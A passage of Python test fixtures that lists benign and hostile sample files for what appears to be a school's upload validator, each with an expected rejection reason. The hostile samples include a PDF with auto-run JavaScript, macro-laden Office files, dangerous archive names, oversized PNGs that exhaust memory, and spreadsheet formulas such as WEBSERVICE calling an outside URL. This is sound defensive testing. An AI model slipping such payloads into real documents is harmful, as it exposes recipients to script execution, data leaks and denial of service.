        Sample("deplace.docx", moved_document_docx(body=b""), "document", True),
        Sample("notes.ods", ods_bytes(), "document", True),
        Sample(
            "annuaire.csv",
            (
                "élève;écart;téléphone\n"
                "A.;-2,5;+33 2 38 12 34 56\n"
                "B.;+1;02 38 12 34 56\n"
            ).encode(),
            "document",
            True,
        ),
        Sample(
            "cooperative.csv",
            "élève;solde;sortie\nA.;-12,50 €;-3 °C\nB.;+2 €;-5 %\n".encode(),
            "document",
            True,
        ),
        Sample(
            "excel.csv",
            "\ufeffsep=;\nélève;note\nA.;-2\n".encode(),
            "document",
            True,
        ),
    ]
    hostile = [
        *(
            Sample(name, data, "document", False, "scripts")
            for name, data in hostile_pdfs()
        ),
        Sample("protege.pdf", encrypted_pdf(), "document", False, "mot de passe"),
        Sample(
            "protege-aes.pdf",
            encrypted_pdf(algorithm="AES-256"),
            "document",
            False,
            "mot de passe",
        ),
        # Decrypted with the empty password, then judged like any other.
        Sample(
            "script-aes.pdf",
            encrypted_pdf(
                to_open=False,
                algorithm="AES-256",
                pdf=pdf_bytes(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "),
            ),
            "document",
            False,
            "scripts",
        ),
        Sample(
            "illisible.pdf",
            b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n",
            "document",
            False,
            "PDF complet",
        ),
        *(
            Sample(name, data, "document", False, message)
            for (name, data), message in zip(
                hostile_office_files(),
                [
                    *["autre adresse"] * 7,
                    "macros",
                    "autre adresse",
                    *["macros"] * 3,
                    "DOCX",
                ],
                strict=True,
            )
        ),
        *(
            Sample(name, data, "document", False, "noms dangereux")
            for name, data in hostile_archives()
        ),
        *(
            Sample(name, data, "document", False, message)
            for name, data, message in hidden_office_files()
        ),
        # 16-bit grey: small on disk, 72 MB decoded, and 4 bytes a pixel
        # twice more when converted for storage.
        Sample(
            "grande.png",
            png_of_size(6000, 6000, colour_type=0, bands=2, depth=16),
            "image",
            False,
            "mémoire",
        ),
        Sample(
            "seize-bits.png",
            png_of_size(6300, 6300, colour_type=0, bands=2, depth=16),
            "image",
            False,
            "mémoire",
        ),
        Sample("animation.png", animation_bytes(), "image", False, "image"),
        Sample("animation.webp", animation_bytes("WEBP"), "image", False, "animation"),
        *(
            Sample(name, text.encode(), "document", False, "formules")
            for name, text in CSV_FORMULAS
        ),
        Sample(
            "formule.xlsx",
            xlsx_bytes(b'<c r="B2"><f>HYPERLINK("https://example.com","x")</f></c>'),
            "document",
            False,
            "formules",
        ),
        Sample(
            "formule.ods",
            ods_bytes(
                b'<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://'
                b'example.com&quot;)"><text:p>0</text:p></table:table-cell>'
            ),
            "document",
            False,
            "formules",
        ),
    ]
    return good + hostile
